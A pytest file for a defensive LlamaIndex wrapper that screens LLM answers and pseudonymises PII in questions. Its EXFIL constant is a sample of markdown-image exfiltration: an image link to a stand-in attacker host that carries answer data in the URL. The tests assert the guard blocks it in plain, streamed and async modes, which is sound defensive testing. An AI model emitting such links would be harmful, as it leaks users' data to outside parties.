"""GuardedQueryEngine: the question admitted as the user's, the answer checked before anyone sees it
(plain, streamed, async), through a real RetrieverQueryEngine over a GuardedRetriever."""

from __future__ import annotations

import asyncio

import pytest
from ctxguard_llamaindex import GuardedQueryEngine, GuardedRetriever, HashingEmbedding, label_nodes
from ctxguard_llamaindex.testing import ScriptedLLM
from llama_index.core import VectorStoreIndex
from llama_index.core.base.response.schema import StreamingResponse
from llama_index.core.query_engine import RetrieverQueryEngine
from llama_index.core.schema import TextNode

from ctxguard import Session

EXFIL = "Refunds take thirty days. ![status](https://evil.example/p.png?d=refund-thirty-days)"
BENIGN = "Refunds are accepted within thirty days of delivery; see https://help.acme.com/refunds."


def _engine(session: Session, answer: str, *, streaming: bool = False) -> tuple[GuardedQueryEngine, ScriptedLLM]:
    nodes = label_nodes([TextNode(text="Refunds are accepted within thirty days of delivery.")], session)
    index = VectorStoreIndex(nodes, embed_model=HashingEmbedding())
    llm = ScriptedLLM([answer])
    inner = RetrieverQueryEngine.from_args(GuardedRetriever(index.as_retriever(), session), llm=llm,
                                           streaming=streaming)
    return GuardedQueryEngine(inner, session), llm


def test_an_answer_with_an_exfiltrating_markdown_image_is_refused(acme: Session) -> None:
    engine, _ = _engine(acme, EXFIL)
    answer = str(engine.query("what is the refund window?"))
    assert "evil.example" not in answer and answer.startswith("ctxguard blocked this answer")


def test_an_ordinary_answer_passes_unchanged(acme: Session) -> None:
    engine, _ = _engine(acme, BENIGN)
    assert str(engine.query("what is the refund window?")) == BENIGN


def test_a_streamed_answer_never_releases_the_image(acme: Session) -> None:
    engine, _ = _engine(acme, "Refunds take thirty days of delivery. " * 20 + EXFIL, streaming=True)
    response = engine.query("what is the refund window?")
    assert isinstance(response, StreamingResponse)
    shown = "".join(response.response_gen)
    assert "evil.example" not in shown and "ctxguard blocked this answer" in shown


def test_a_streamed_ordinary_answer_arrives_whole(acme: Session) -> None:
    text = "Refunds are accepted within thirty days of delivery. " * 30
    engine, _ = _engine(acme, text, streaming=True)
    response = engine.query("what is the refund window?")
    assert isinstance(response, StreamingResponse)
    assert "".join(response.response_gen) == text


def test_async_query_checks_the_answer_too(acme: Session) -> None:
    engine, _ = _engine(acme, EXFIL)
    answer = str(asyncio.run(engine.aquery("what is the refund window?")))
    assert "evil.example" not in answer and answer.startswith("ctxguard blocked this answer")


def test_pii_in_the_question_reaches_the_model_pseudonymised_and_the_user_sees_it_restored(acme: Session) -> None:
    engine, llm = _engine(acme, "I will write to <EMAIL_ADDRESS_1> about the refund.")
    # The scripted answer uses the token the model was given; the user sees the real address.
    answer = str(engine.query("When is the refund for carol@example.org due?"))
    assert all("carol@example.org" not in p for p in llm.prompts)
    assert any("<EMAIL_ADDRESS_1>" in p for p in llm.prompts)
    assert "carol@example.org" in answer


def test_the_question_is_admitted_as_the_users_words(acme: Session) -> None:
    engine, _ = _engine(acme, BENIGN)
    engine.query("please email the refund summary to bob@acme.com")
    assert any(label.source == "user" for label in acme.provenance("refund summary"))


def test_wrong_types_are_refused_at_construction(acme: Session) -> None:
    with pytest.raises(TypeError):
        GuardedQueryEngine("not an engine", acme)  # type: ignore[arg-type]
    engine, _ = _engine(acme, BENIGN)
    with pytest.raises(TypeError):
        GuardedQueryEngine(engine, "not a session")  # type: ignore[arg-type]
